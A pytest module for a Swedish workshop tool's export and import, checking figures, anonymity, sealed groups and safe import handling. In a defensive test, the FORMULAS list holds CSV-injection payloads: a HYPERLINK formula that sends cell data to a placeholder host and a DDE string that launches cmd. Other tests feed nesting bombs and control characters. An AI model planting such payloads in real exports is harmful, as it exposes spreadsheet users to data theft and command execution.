"""Export and import against a real server, on SQLite and PostgreSQL: what the group keeps.

The workshop below is played through real sockets; every figure the tests expect is
computed here from the answers the test itself sent (`Truth`), never taken from another
export, so a wrong table cell in any format fails a test.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import shutil
import statistics
import subprocess
from collections import Counter
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
from pypdf import PdfReader
from sqlalchemy import text

from app.client import RoomClient
from app.db import make_engine
from app.sealing import Sealer
from app.snapshot import GROUP_SEAL
from app.templates import builtin_templates
from tests.conftest import MakeClient, NewRoom
from tests.servers import IN_CI, ServerProcess

SWEDISH_LEFT_POLES = [
    "Vi erbjuder en produkt",
    "Vi ser användaren som objekt",
    "Vi har fokus på produktion",
    "Vi gör saker rätt",
    "Vi har en linjär logik i vår verksamhet",
    "Vi har stort expertfokus",
    "Vi utvecklar vår verksamhet inom enheter (silos)",
    "Vi vill inte misslyckas",
    "Vi vill helst reducera variation",
    "Våra rutiner beslutas högt i hierarkin",
]
U = "unknown"
Answer = int | str
# The answers of seven people P0..P6, by (round, kind, statement). None: no answer.
ANSWERS: dict[tuple[int, str, str], list[Answer | None]] = {
    (1, "today", "s1"): [3, 4, 5, 6, 7, 8, 9],
    (1, "today", "s2"): [2, 2, 3, 9, 8, U, 1],
    (1, "today", "s3"): [5, 5, 6, 6, 7, 7, 8],
    (1, "desired", "s1"): [8, 8, 9, 9, 10, 7, 6],
    (1, "desired", "s2"): [6, 6, 7, 7, 8, 8, 9],
    # Only P0 says where s3 should be: one answer, which today minus desired would give away.
    (1, "desired", "s3"): [9, None, None, None, None, None, None],
    (2, "today", "s1"): [4, 4, 6, 6, 8, 8, 9],
    (2, "today", "s2"): [3, 3, 3, 8, 8, U, U],
    (2, "today", "s3"): [6, 6, 6, 7, 7, 8, 8],
    (2, "desired", "s1"): [9, 9, 9, 9, 9, 8, 7],
}
NAMES = {0: "Åsa", 3: "Bo"}
GROUP_OF = {0: "chefer", 1: "chefer", 2: "chefer", 3: "staff", 4: "staff"}  # P5, P6: none
GROUPS = [{"id": "chefer", "name": "Chefer"}, {"id": "staff", "name": "Medarbetare"}]
# Held back by the k rule (k = 3), as the scenario is built: the one desired answer to s3
# in round 1, in the room and in "chefer"; and all of "staff", a group of two.
WITHHELD_ROOM = {(1, "desired", "s3")}
SHOWN_GROUP = "chefer"


@dataclass
class Truth:
    """The expected figures, from the answers alone."""

    answers: dict[tuple[int, str, str], list[Answer | None]] = field(default_factory=lambda: ANSWERS)

    def values(self, key: tuple[int, str, str], people: range | list[int] = range(7)) -> list[Answer]:
        given = self.answers.get(key, [None] * 7)
        return [given[i] for i in people if given[i] is not None]  # type: ignore[misc]

    def grades(self, key: tuple[int, str, str], people: range | list[int] = range(7)) -> list[int]:
        return [v for v in self.values(key, people) if isinstance(v, int)]

    def mean(self, key: tuple[int, str, str], people: range | list[int] = range(7)) -> float | None:
        grades = self.grades(key, people)
        return statistics.fmean(grades) if grades else None

    def figures(self, key: tuple[int, str, str], people: range | list[int] = range(7)) -> dict[str, Any]:
        grades = self.grades(key, people)
        return {
            "n": len(grades),
            "unknown": sum(v == U for v in self.values(key, people)),
            "mean": statistics.fmean(grades) if grades else None,
            "median": statistics.median(grades) if grades else None,
            "sd": statistics.pstdev(grades) if grades else None,
            "histogram": [grades.count(value) for value in range(1, 11)],
        }

    def gap(self, round_number: int, statement: str) -> float | None:
        if (round_number, "desired", statement) in WITHHELD_ROOM:
            return None
        today, desired = self.mean((round_number, "today", statement)), self.mean((round_number, "desired", statement))
        return None if today is None or desired is None else desired - today


TRUTH = Truth()
CHEFER = [i for i, group in GROUP_OF.items() if group == "chefer"]


def swedish(value: float | None, digits: int = 1) -> str:
    return "–" if value is None else f"{value:.{digits}f}".replace(".", ",")


async def workshop(new_room: NewRoom, clients: MakeClient) -> tuple[dict[str, Any], list[RoomClient]]:
    """Seven people answer two rounds, today and desired, in two groups; one more joins and
    does nothing; Cecilia only writes a note. Notes in order, votes, a linked note."""
    room = await new_room(title="Äldreomsorgen Åmål")
    facilitator = clients(room["room_id"], room["facilitator_token"])
    await facilitator.connect()
    await facilitator.command("update_room", desired_enabled=True)
    await facilitator.command("set_groups", groups=GROUPS)
    people = [clients(room["room_id"]) for _ in range(7)]
    for index, person in enumerate(people):
        await person.connect(name=NAMES.get(index))
        if index in GROUP_OF:
            await person.command("set_profile", group=GROUP_OF[index])
    silent, cecilia = clients(room["room_id"]), clients(room["room_id"])
    await silent.connect()
    await cecilia.connect(name="Cecilia")

    async def answer(round_number: int) -> dict[str, Any]:
        ack: dict[str, Any] = {}
        for (r, kind, statement), values in ANSWERS.items():
            for person, value in zip(people, values, strict=True):
                if r == round_number and value is not None:
                    ack = await person.command("set_score", statement_id=statement, value=value, kind=kind)
        return ack

    await answer(1)
    await facilitator.command("start_round")
    ack = await answer(2)
    await people[0].command("add_note", area_id="thoughts", text="Värdet uppstår hos brukaren")
    await people[3].command("add_note", area_id="now", text="Bjud in brukare; till | planeringen *nu*")
    await people[5].command("add_note", area_id="now", text="Prova ett nytt mötesformat", statement_id="s3")
    await cecilia.command("add_note", area_id="needed", text="Handledning för nya medarbetare")
    await facilitator.command("add_note", area_id="needed", text="Tid för reflektion")
    moved = next(n for n in people[5].notes.values() if n["text"] == "Prova ett nytt mötesformat")
    await people[5].command("move_note", note_id=moved["id"], area_id="now", index=0)
    liked = next(n for n in people[0].notes.values() if n["area_id"] == "thoughts")
    for person in (people[1], people[2], people[4]):
        await person.command("vote_note", note_id=liked["id"], voted=True)
    await facilitator.command("set_phase", phase="document")
    last = await facilitator.command("set_results_visible", visible=True)
    await facilitator.wait_until(lambda: (facilitator.spectrum or {}).get("seq", 0) >= ack["seq"])
    await facilitator.wait_until(lambda: (facilitator.last_seq or 0) >= last["seq"])
    return room, people


async def export(http: httpx.AsyncClient, room: dict[str, Any], fmt: str) -> httpx.Response:
    response = await http.get(
        f"/api/rooms/{room['room_id']}/export",
        params={"format": fmt},
        headers={"Authorization": f"Bearer {room['facilitator_token']}"},
    )
    assert response.status_code == 200, response.text
    return response


def server_sealer(server: ServerProcess) -> Sealer:
    """The server's own key (from its database), to read the sealed groups back in a test."""
    engine = make_engine(server.env["SAMSKAPA_DATABASE_URL"])
    try:
        with engine.connect() as connection:
            value = connection.execute(text("SELECT value FROM serverkey WHERE name = 'export-groups'")).scalar_one()
    finally:
        engine.dispose()
    import base64

    return Sealer(base64.b64decode(value))


def normalised(document: dict[str, Any], sealer: Sealer) -> dict[str, Any]:
    """An export with ids, seals and times replaced by what they stand for: each respondent
    by its answers (and its group, opened), notes by their order, pseudonyms as they come."""
    result: dict[str, Any] = json.loads(json.dumps(document))
    result.pop("exported_at")
    result["room"].pop("created_at")
    answers: dict[str, list[tuple[Any, ...]]] = {}
    for score in result["scores"]:
        answers.setdefault(score["respondent"], []).append(
            (score["round"], score["kind"], score["statement_id"], score["value"])
        )
    groups = {r["id"]: sealer.open(r["group_seal"], GROUP_SEAL) for r in result["respondents"]}
    result["respondents"] = sorted((sorted(answers[r]), groups[r]) for r in groups)
    result["scores"] = sorted(
        (s["round"], s["kind"], s["statement_id"], str(s["value"]), sorted(answers[s["respondent"]]))
        for s in result["scores"]
    )
    for index, note in enumerate(result["notes"]):
        note["id"] = f"note-{index}"
        note.pop("created_at")
        note.pop("updated_at")
    return result


class Tables(HTMLParser):
    """The HTML report's tables, as lists of rows of cell texts."""

    def __init__(self, document: str) -> None:
        super().__init__()
        self.tables: list[list[list[str]]] = []
        self._cell: list[str] | None = None
        self.feed(document)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "table":
            self.tables.append([])
        elif tag == "tr" and self.tables:
            self.tables[-1].append([])
        elif tag in {"td", "th"}:
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in {"td", "th"} and self._cell is not None:
            self.tables[-1][-1].append("".join(self._cell).strip())
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def markdown_table(markdown: str, heading: str) -> list[list[str]]:
    """The rows (header first, no rule line) of the table under `heading`."""
    lines = markdown.split(heading, 1)[1].strip().splitlines()
    rows = []
    for line in lines:
        if not line.startswith("|"):
            break
        cells = [re.sub(r"\\(.)", r"\1", cell.strip()) for cell in re.split(r"(?<!\\)\|", line.strip())[1:-1]]
        if not set("".join(cells)) <= set("-: "):
            rows.append(cells)
    return rows


def expected_round_cells(statement: str) -> list[str]:
    """Round 1 and 2, each today, desired and gap, as the report writes them."""
    cells = []
    for round_number in (1, 2):
        cells.append(swedish(TRUTH.mean((round_number, "today", statement))))
        desired_withheld = (round_number, "desired", statement) in WITHHELD_ROOM
        cells.append("*" if desired_withheld else swedish(TRUTH.mean((round_number, "desired", statement))))
        cells.append("*" if desired_withheld else swedish(TRUTH.gap(round_number, statement)))
    return cells


def expected_desired_rows() -> list[list[str]]:
    rows = []
    for number, pole in enumerate(SWEDISH_LEFT_POLES, start=1):
        statement = f"s{number}"
        today, desired, gap = (
            TRUTH.mean((2, "today", statement)),
            TRUTH.mean((2, "desired", statement)),
            TRUTH.gap(2, statement),
        )
        rows.append(
            (-abs(gap) if gap is not None else 0, [str(number), pole, swedish(today), swedish(desired), swedish(gap)])
        )
    return [cells for _, cells in sorted(rows, key=lambda row: row[0])]


def expected_group_cells(statement: str) -> str:
    return swedish(TRUTH.mean((2, "today", statement), CHEFER))


async def test_the_json_holds_every_figure_by_round_and_kind(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    room, _people = await workshop(new_room, clients)
    document = (await export(http, room, "json")).json()
    assert document["schema_version"] == 2
    assert document["participants"] == 9 and len(document["respondents"]) == 7 and document["voters"] == 7
    assert len(document["scores"]) == sum(len(TRUTH.values(key)) for key in ANSWERS)
    figures = {(a["round"], a["kind"], a["statement_id"]): a for a in document["aggregates"]}
    assert set(figures) == {(r, k, f"s{n}") for r in (1, 2) for k in ("today", "desired") for n in range(1, 11)}
    for key, got in figures.items():
        if key in WITHHELD_ROOM:
            assert got["withheld"] == len(TRUTH.values(key)) and got["n"] == 0 and got["mean"] is None, key
            continue
        expected = TRUTH.figures(key)
        assert {name: got[name] for name in ("n", "unknown", "histogram")} == {
            name: expected[name] for name in ("n", "unknown", "histogram")
        }, key
        for name in ("mean", "median", "sd"):
            assert got[name] == pytest.approx(expected[name]), (key, name)
    (group,) = document["group_figures"]
    assert group["group_id"] == SHOWN_GROUP and group["voters"] == 3 and document["hidden_groups"] == 1
    for got in group["aggregates"]:
        key = (got["round"], got["kind"], got["statement_id"])
        if key == (1, "desired", "s3"):
            assert got["withheld"] == 1
        else:
            assert got["mean"] == pytest.approx(TRUTH.mean(key, CHEFER)), key


async def test_the_reports_tables_are_the_answers_figures(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    """Every cell of the Markdown and HTML tables, against figures computed from the answers:
    this round's spectrum, every round's today/desired/gap, the desired table, the groups."""
    room, _people = await workshop(new_room, clients)
    markdown = (await export(http, room, "md")).text
    report = Tables((await export(http, room, "html")).text).tables

    spectrum = markdown_table(markdown, "10 = Tjänstelogisk styrning och utveckling")[1:]
    for number, row in enumerate(spectrum, start=1):
        figures = TRUTH.figures((2, "today", f"s{number}"))
        expected = [str(number), SWEDISH_LEFT_POLES[number - 1]]
        assert row[:2] == expected
        assert row[3:7] == [
            str(figures["n"]),
            swedish(figures["mean"]),
            swedish(figures["median"]),
            swedish(figures["sd"]),
        ]

    rounds = markdown_table(markdown, "### Omgångar: medelvärden")
    html_rounds = next(table for table in report if table[0][2] == "Omgång 1: Idag")
    for table in (rounds, html_rounds):
        assert table[0][2:] == [
            f"Omgång {r}: {kind}" for r in (1, 2) for kind in ("Idag", "Önskat", "Gap (önskat − idag)")
        ]
        for number, row in enumerate(table[1:], start=1):
            assert row == [str(number), SWEDISH_LEFT_POLES[number - 1], *expected_round_cells(f"s{number}")], row

    desired = markdown_table(markdown, "### Idag och önskat")
    html_desired = next(
        table for table in report if table[0][1:] == ["Vänster pol (1)", "Idag", "Önskat", "Gap (önskat − idag)"]
    )
    for table in (desired, html_desired):
        assert table[1:] == expected_desired_rows()

    groups = markdown_table(markdown, "### Per grupp: medelvärden")
    html_groups = next(table for table in report if table[0][2:] == ["Chefer (3)"])
    for table in (groups, html_groups):
        assert table[0] == ["#", "Vänster pol (1)", "Chefer (3)"]
        for number, row in enumerate(table[1:], start=1):
            assert row == [str(number), SWEDISH_LEFT_POLES[number - 1], expected_group_cells(f"s{number}")]
    assert "Visas inte: så få svar" in markdown and "1 grupp med färre än 3 svarande" in markdown


async def test_the_csv_has_every_figure_and_answer_by_round_and_kind(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    room, _people = await workshop(new_room, clients)
    response = await export(http, room, "csv")
    assert response.content.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, for Excel"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Siffror per omgång, slag och påstående"]
    header = rows[1]
    assert header[:9] == [
        "#",
        "Vänster pol (1)",
        "Höger pol (10)",
        "Omgång",
        "Avser",
        "Svar",
        "Medel",
        "Median",
        "Standardavvikelse",
    ]
    assert header[19:] == ["Vet ej", "Dolda svar", "Oenighet"]
    kinds = {"Idag": "today", "Önskat": "desired"}
    figure_rows = rows[2 : 2 + 40]
    for row in figure_rows:
        key = (int(row[3]), kinds[row[4]], f"s{row[0]}")
        assert row[1] == SWEDISH_LEFT_POLES[int(row[0]) - 1]
        if key in WITHHELD_ROOM:
            assert row[5:19] == [""] * 14 and row[20] == str(len(TRUTH.values(key))), row
            continue
        expected = TRUTH.figures(key)
        assert row[5] == str(expected["n"]) and [int(c) for c in row[9:19]] == expected["histogram"], row
        assert row[6] == ("" if expected["mean"] is None else swedish(expected["mean"], 2)), row
        assert row[19] == str(expected["unknown"]) and row[20] == "", row
    start = rows.index(["Alla graderingar, anonymiserade"])
    assert rows[start + 1] == ["Svarande (pseudonym)", "Omgång", "Avser", "#", "Påstående", "Gradering"]
    raw = rows[start + 2 : rows.index([], start)]
    by_respondent: dict[str, list[tuple[int, str, str, str]]] = {}
    for respondent, round_, kind, number, pole, value in raw:
        assert pole == SWEDISH_LEFT_POLES[int(number) - 1]
        by_respondent.setdefault(respondent, []).append((int(round_), kinds[kind], f"s{number}", value))
    sent = [
        sorted(
            (r, k, s, "Vet ej" if values[person] == U else str(values[person]))
            for (r, k, s), values in ANSWERS.items()
            if values[person] is not None
        )
        for person in range(7)
    ]
    assert sorted(sorted(answers) for answers in by_respondent.values()) == sorted(sent), "one pseudonym per person"
    groups_at = rows.index(["Per grupp: medelvärden"])
    group_rows = [row for row in rows[groups_at + 2 :] if row and row[0] == "Chefer"]
    assert len(group_rows) == 40 and not any(row[0] == "Medarbetare" for row in rows[groups_at:])
    for row in group_rows:
        key = (int(row[1]), kinds[row[2]], f"s{row[3]}")
        if key == (1, "desired", "s3"):
            assert row[4] == "" and row[19] == "1"
        else:
            expected = TRUTH.figures(key, CHEFER)
            assert row[4] == str(expected["n"]) and row[5] == (
                "" if expected["mean"] is None else swedish(expected["mean"], 2)
            )
    assert rows[-1][0].startswith("1 grupp med färre än 3 svarande")


async def test_no_export_ties_a_name_to_an_answer(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    """Names are on the notes their authors signed, and nowhere else; answers belong to
    pseudonyms that appear nowhere near a name or a group."""
    room, _people = await workshop(new_room, clients)
    document = (await export(http, room, "json")).json()
    respondents = {r["id"] for r in document["respondents"]}
    assert set(document["respondents"][0]) == {"id", "group_seal"}, "a respondent carries no name and no plain group"
    assert len({len(r["group_seal"]) for r in document["respondents"]}) == 1, "a seal's length tells no group apart"
    authors = {n["author"] for n in document["notes"]}
    voters = {v for n in document["notes"] for v in n["voters"]}
    assert not respondents & (authors | voters), "no pseudonym of an answer is also a note's author or voter"
    signed = {n["author_name"] for n in document["notes"]} - {None}
    assert signed == {"Åsa", "Bo", "Cecilia"}
    serialised = json.dumps(document, ensure_ascii=False)
    for name in signed:
        assert serialised.count(f'"{name}"') == sum(n["author_name"] == name for n in document["notes"]), name
    for score in document["scores"]:
        assert set(score) == {"respondent", "round", "kind", "statement_id", "value"}
    csv_text = (await export(http, room, "csv")).content.decode("utf-8-sig")
    assert not any(name in csv_text for name in signed), "the CSV holds answers and no names"
    markdown = (await export(http, room, "md")).text
    for line in markdown.splitlines():
        if any(re.search(rf"\b{name}\b", line) for name in signed):
            assert line.startswith("- "), f"a name outside the notes: {line}"
    report = (await export(http, room, "html")).text
    notes = re.findall(r"<li>.*?</li>", report)
    assert sum("Åsa" in item for item in notes) == 1 and sum("Cecilia" in item for item in notes) == 1
    outside = re.sub(r"<li>.*?</li>", "", report)
    for name in signed:
        assert not re.search(rf"\b{name}\b", outside), f"{name} is written outside the notes"
    for text_ in (markdown, report):
        assert "Medarbetare" not in text_, "a group too small to show is not even named"


async def test_the_round_trip_keeps_everything_and_every_group(
    http: httpx.AsyncClient, server: ServerProcess, new_room: NewRoom, clients: MakeClient
) -> None:
    room, _people = await workshop(new_room, clients)
    first = (await export(http, room, "json")).json()
    imported = await http.post("/api/rooms/import", content=json.dumps(first))
    assert imported.status_code == 201, imported.text
    copy = imported.json()
    assert copy["room_id"] != room["room_id"] and copy["facilitator_token"] != room["facilitator_token"]
    assert copy["groups_not_restored"] == 0
    second = (await export(http, copy, "json")).json()
    sealer = server_sealer(server)
    assert normalised(second, sealer) == normalised(first, sealer)
    assert second["hidden_groups"] == 1 and [g["group_id"] for g in second["group_figures"]] == [SHOWN_GROUP]
    opened = Counter(sealer.open(r["group_seal"], GROUP_SEAL) for r in second["respondents"])
    assert opened == Counter({"chefer": 3, "staff": 2, "": 2}), "everyone keeps their group, the hidden ones too"
    assert (await export(http, copy, "md")).text == (await export(http, room, "md")).text
    # The CSV is the same but for the pseudonyms, which are drawn again.
    copied = (await export(http, copy, "csv")).text.splitlines()
    original = (await export(http, room, "csv")).text.splitlines()
    assert sorted(line.split(";", 1)[-1] for line in copied) == sorted(line.split(";", 1)[-1] for line in original)


async def test_a_file_sealed_elsewhere_imports_without_its_groups(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    room, _people = await workshop(new_room, clients)
    document = (await export(http, room, "json")).json()
    stranger = Sealer(b"\x01" * 32)
    for respondent in document["respondents"]:
        respondent["group_seal"] = stranger.seal("chefer", GROUP_SEAL)
    imported = await http.post("/api/rooms/import", content=json.dumps(document))
    assert imported.status_code == 201, imported.text
    assert imported.json()["groups_not_restored"] == 7
    again = (await export(http, imported.json(), "json")).json()
    assert again["group_figures"] == [] and again["hidden_groups"] == 0


async def test_bad_imports_are_refused_and_leave_nothing(
    http: httpx.AsyncClient, server: ServerProcess, new_room: NewRoom, clients: MakeClient
) -> None:
    room, _people = await workshop(new_room, clients)
    good = (await export(http, room, "json")).json()
    engine = make_engine(server.env["SAMSKAPA_DATABASE_URL"])

    def rooms_stored() -> int:
        with engine.connect() as connection:
            return int(connection.execute(text("SELECT count(*) FROM room")).scalar_one())

    def changed(**parts: Any) -> bytes:
        return json.dumps({**good, **parts}).encode()

    first_score, first_note = good["scores"][0], good["notes"][0]
    # A round-2 answer to s2 said to be a desired one: nobody gave that, so the figures disagree.
    round_two_s2 = next(s for s in good["scores"] if (s["round"], s["kind"], s["statement_id"]) == (2, "today", "s2"))
    shifted_kind = {**round_two_s2, "kind": "desired"}
    respondents = good["respondents"]
    before = rooms_stored()
    try:
        cases: list[tuple[bytes, int, str, str]] = [
            (b"{not json", 422, "invalid_json", "not JSON"),
            (changed(schema_version=1), 422, "unsupported_schema_version", "1"),
            (
                json.dumps({k: v for k, v in good.items() if k != "template"}).encode(),
                422,
                "invalid_export",
                "template",
            ),
            (
                changed(scores=[{**first_score, "value": 11}, *good["scores"][1:]]),
                422,
                "invalid_export",
                "scores.0.value",
            ),
            (
                changed(scores=[{**first_score, "respondent": "r99"}, *good["scores"][1:]]),
                422,
                "invalid_export",
                "scores.0.respondent",
            ),
            (
                changed(scores=[{**first_score, "round": 3}, *good["scores"][1:]]),
                422,
                "invalid_export",
                "scores.0.round",
            ),
            (
                changed(scores=[shifted_kind if s is round_two_s2 else s for s in good["scores"]]),
                422,
                "invalid_export",
                "aggregates.",
            ),
            (changed(respondents=[*respondents, {**respondents[0]}]), 422, "invalid_export", "respondents.7.id"),
            (
                changed(respondents=[*respondents, {"id": "p_Xc83rpn30rOQOdOS", "group_seal": "x"}]),
                422,
                "invalid_export",
                "respondents.7.id",
            ),
            (
                changed(group_figures=[{**good["group_figures"][0], "group_id": "nowhere"}]),
                422,
                "invalid_export",
                "group_figures.0.group_id",
            ),
            (
                changed(notes=[{**first_note, "area_id": "nowhere"}, *good["notes"][1:]]),
                422,
                "invalid_export",
                "notes.0.area_id",
            ),
            (
                changed(notes=[{**first_note, "voters": ["p_Xc83rpn30rOQOdOS"]}, *good["notes"][1:]]),
                422,
                "invalid_export",
                "notes.0.voters.0",
            ),
            (changed(participants=3), 422, "invalid_export", "participants"),
            (changed(participants=5001), 422, "limit_reached", "5,001 participants"),
            (b" " * (50 * 1024 * 1024), 413, "too_large", "MB"),
            # A nesting bomb was a 500 (issue 17); a NUL was stored on SQLite, a 500 on PostgreSQL.
            (b"[" * 2048, 422, "invalid_json", "not JSON"),
            (b'{"schema_version": 2, "room": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", 422, "invalid_json", "JSON"),
            (
                changed(notes=[{**first_note, "author_name": "Å\u0000sa"}, *good["notes"][1:]]),
                422,
                "invalid_export",
                "notes.0.author_name",
            ),
            (
                changed(notes=[{**first_note, "text": "Lapp\u001b[31m"}, *good["notes"][1:]]),
                422,
                "invalid_export",
                "notes.0.text",
            ),
            (changed(room={**good["room"], "title": "\u0000"}), 422, "invalid_export", "room.title"),
        ]
        for body, status, code, named in cases:
            response = await http.post("/api/rooms/import", content=body, timeout=60)
            assert response.status_code == status, (named, response.text[:300])
            assert response.json()["code"] == code, (named, response.json())
            assert named in response.json()["message"], response.json()["message"]
        assert rooms_stored() == before, "nothing half-imported remains"
    finally:
        engine.dispose()


async def test_markdown_tells_the_story(http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient) -> None:
    room, _people = await workshop(new_room, clients)
    markdown = (await export(http, room, "md")).text
    assert markdown.startswith("# Äldreomsorgen Åmål")
    assert "9 deltagare, varav 7 graderade" in markdown
    assert "Vilka resursstrukturer finns i vår verksamhet?" in markdown
    assert "## Nästa steg" in markdown and "### Vad gör vi nu? – Aktiviteter vi vill få igång" in markdown
    now = markdown.split("### Vad gör vi nu?", 1)[1]
    assert now.index("- [ ] Prova ett nytt mötesformat (↔ om påstående 3)") < now.index("Bjud in brukare")
    assert r"Bjud in brukare; till \| planeringen \*nu\* — Bo" in markdown, "user text is escaped"
    assert "Värdet uppstår hos brukaren — Åsa (3 röster)" in markdown


async def test_export_schema_is_served(http: httpx.AsyncClient) -> None:
    schema = (await http.get("/api/schema/export.json")).json()
    assert schema["title"] == "BoardExport"
    assert {
        "schema_version",
        "room",
        "template",
        "participants",
        "respondents",
        "scores",
        "aggregates",
        "notes",
    } <= set(schema["required"])


async def test_exports_are_for_the_facilitator_only(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    room = await new_room()
    alice = clients(room["room_id"])
    await alice.connect()
    url = f"/api/rooms/{room['room_id']}/export"
    assert (await http.get(url)).json()["code"] == "unauthorized"
    refused = await http.get(url, headers={"Authorization": f"Bearer {alice.token}"})
    assert refused.status_code == 403 and refused.json()["code"] == "forbidden"
    bad_format = await http.get(
        url, params={"format": "pdf"}, headers={"Authorization": f"Bearer {room['facilitator_token']}"}
    )
    assert bad_format.status_code == 422


FORMULAS = ['=HYPERLINK("http://example.invalid/?q="&A1,"Klicka")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"]


async def test_csv_cells_that_a_spreadsheet_would_run_are_made_inert(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    """Issue 17: poles and group names went into the CSV raw, so a spreadsheet ran them as
    formulas. Each cell that begins with = + - @ (or tab or CR) now begins with a quote."""
    template = builtin_templates()["tjanstelogik"].model_dump(mode="json")
    template["statements"][0]["left"] = {"sv": FORMULAS[0]}
    template["statements"][0]["right"] = {"sv": FORMULAS[1]}
    template["statements"][1]["left"] = {"sv": FORMULAS[2]}
    template["statements"][1]["right"] = {"sv": FORMULAS[3]}
    room = await new_room(title="Formler", template=template)
    facilitator = clients(room["room_id"], room["facilitator_token"])
    await facilitator.connect()
    await facilitator.command("update_room", group_min_size=2)
    await facilitator.command("set_groups", groups=[{"id": "g", "name": "=1+1"}, {"id": "h", "name": "@A1"}])
    for group in ("g", "g", "h", "h"):
        person = clients(room["room_id"])
        await person.connect()
        await person.command("set_profile", group=group)
        await person.command("set_score", statement_id="s1", value=3)
        await person.command("set_score", statement_id="s2", value="unknown")
    ack = await facilitator.command("set_results_visible", visible=True)
    await facilitator.wait_until(lambda: (facilitator.last_seq or 0) >= ack["seq"])
    rows = list(csv.reader(io.StringIO((await export(http, room, "csv")).content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    dangerous = [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"} and not NUMBER.fullmatch(c)]
    assert not dangerous, f"cells a spreadsheet would run: {dangerous}"
    for formula in (*FORMULAS, "=1+1", "@A1"):
        assert "'" + formula in cells, f"{formula!r} is kept, behind a quote"
    assert [row[0] for row in rows if row[:1] and row[0] in {"'=1+1", "'@A1"}], "the group rows are there"


NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


@pytest.fixture(scope="module")
def chromium() -> str:
    path = shutil.which("chromium")
    if path is None:
        if IN_CI:
            pytest.fail("CI=true but chromium is not installed (.ci/run installs it)")
        pytest.skip("chromium is not installed")
    return path


async def test_html_report_is_self_contained_and_prints(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient, chromium: str, tmp_path: Path
) -> None:
    room, _people = await workshop(new_room, clients)
    report = (await export(http, room, "html")).text
    assert report.startswith("<!doctype html>") and '<html lang="sv">' in report
    for external in ("http://", "https://", "src=", "@import", "url("):
        assert external not in report.replace('xmlns="http://www.w3.org/2000/svg"', ""), external
    assert report.count("<svg") == 11  # ten distributions and the profile
    assert "@page { size: A4" in report
    source = tmp_path / "report.html"
    source.write_text(report, encoding="utf-8")
    pdf = tmp_path / "report.pdf"
    command = [
        chromium,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--no-first-run",
        f"--user-data-dir={tmp_path / 'profile'}",
        "--no-pdf-header-footer",
        f"--print-to-pdf={pdf}",
        source.as_uri(),
    ]
    await asyncio.to_thread(subprocess.run, command, check=True, capture_output=True, timeout=90, env={**os.environ})
    text_in_pdf = " ".join(page.extract_text() for page in PdfReader(pdf).pages)
    flat = " ".join(text_in_pdf.split())
    assert "Äldreomsorgen Åmål" in flat
    for pole in SWEDISH_LEFT_POLES:
        assert pole in flat, pole


async def test_an_export_is_one_consistent_snapshot_while_people_write(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    room = await new_room()
    writers = [clients(room["room_id"]) for _ in range(3)]
    for writer in writers:
        await writer.connect()
    acked: dict[str, int] = {}
    stop = asyncio.Event()

    async def keep_writing(writer: RoomClient, number: int) -> None:
        count = 0
        while not stop.is_set() and count < 60:
            text_ = f"Lapp {number}-{count}"
            reply = await writer.command("add_note", area_id="insights", text=text_)
            acked[text_] = reply["seq"]
            count += 1

    tasks = [asyncio.create_task(keep_writing(w, i)) for i, w in enumerate(writers)]
    exports = []
    for _ in range(6):
        exports.append((await export(http, room, "json")).json())
    stop.set()
    await asyncio.gather(*tasks)
    for document in exports:
        seq = document["room"]["seq"]
        texts = {n["text"] for n in document["notes"]}
        # Exactly the notes acknowledged at or before the snapshot's seq, nothing half-done.
        assert texts == {t for t, s in acked.items() if s <= seq}


async def test_the_case_number_heads_every_export_and_names_the_file(
    http: httpx.AsyncClient, new_room: NewRoom, clients: MakeClient
) -> None:
    """A Swedish public body files the report under its diarienummer: the facilitator sets
    it once, and every export carries it in its header and its file name."""
    room = await new_room(title="Äldreomsorgen Åmål")
    facilitator = clients(room["room_id"], room["facilitator_token"])
    await facilitator.connect()
    ack = await facilitator.command("update_room", case_number="  KS 2026/123 ")
    updated = [m for m in facilitator.messages if m["type"] == "room_updated"][-1]
    assert updated["seq"] == ack["seq"] and updated["case_number"] == "KS 2026/123"
    assert updated["title"] == "Äldreomsorgen Åmål", "the other settings stay as they were"
    again = clients(room["room_id"], room["facilitator_token"])
    welcome = await again.connect()
    assert welcome["snapshot"]["settings"]["case_number"] == "KS 2026/123"

    responses = {fmt: await export(http, room, fmt) for fmt in ("json", "csv", "md", "html")}
    for fmt, response in responses.items():
        disposition = response.headers["content-disposition"]
        assert 'filename="ks-2026-123-aldreomsorgen-amal-' in disposition and disposition.endswith(f'.{fmt}"')
    assert responses["json"].json()["room"]["case_number"] == "KS 2026/123"
    rows = list(csv.reader(io.StringIO(responses["csv"].content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Diarienummer", "KS 2026/123"]
    markdown = responses["md"].text.splitlines()
    assert markdown[0] == "# Äldreomsorgen Åmål" and markdown[2].startswith("Diarienummer KS 2026/123 · ")
    assert '<p class="meta">Diarienummer KS 2026/123 · ' in responses["html"].text

    await facilitator.command("update_room", case_number="")
